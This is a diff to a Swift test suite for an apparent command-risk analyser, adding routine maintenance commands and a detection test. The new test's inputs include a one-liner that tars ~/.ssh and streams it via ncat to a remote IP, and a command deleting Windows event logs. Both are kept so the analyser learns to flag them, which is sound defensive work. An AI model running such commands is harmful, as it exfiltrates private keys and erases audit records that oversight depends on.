@@ -198,6 +198,8 @@ import Testing
         ("sudo blockdev --getsize64 /dev/sdb", .sh),
         ("Get-Content C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex251204.log -Tail 20", .powershell),
         ("[IO.File]::ReadAllLines('D:\\Shop\\config\\appsettings.json') | Select-String Timeout", .powershell),
+        ("Get-ChildItem E:\\Shop\\logs -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -Force", .powershell),
+        ("\"$(which python3)\" -m pip list --outdated", .sh),
     ]
 
     @Test(arguments: carriedRoutine.indices)
@@ -205,6 +207,14 @@ import Testing
         let (command, dialect) = Self.carriedRoutine[i]
         let a = try Self.analyse(command, dialect)
         #expect(a.risk <= .medium, "`\(command)` was \(a.risk): \(a.summary)")
+    }
+
+    @Test func locatedProgramsAreThemselves() throws {
+        let a = try Self.analyse("NC=$(which ncat); tar cz ~/.ssh | $NC 198.51.100.74 9001")
+        #expect(a.risk >= .high && a.tactics.contains("TA0010"))
+        // Old event logs are not clean-up.
+        let logs = try Self.analyse("Get-ChildItem C:\\Windows\\System32\\winevt\\Logs | Where-Object LastWriteTime -lt (Get-Date).AddDays(-1) | Remove-Item", .powershell)
+        #expect(logs.risk >= .medium)
     }
 
     @Test func rawDiskReadsStayHighForContentReaders() throws {
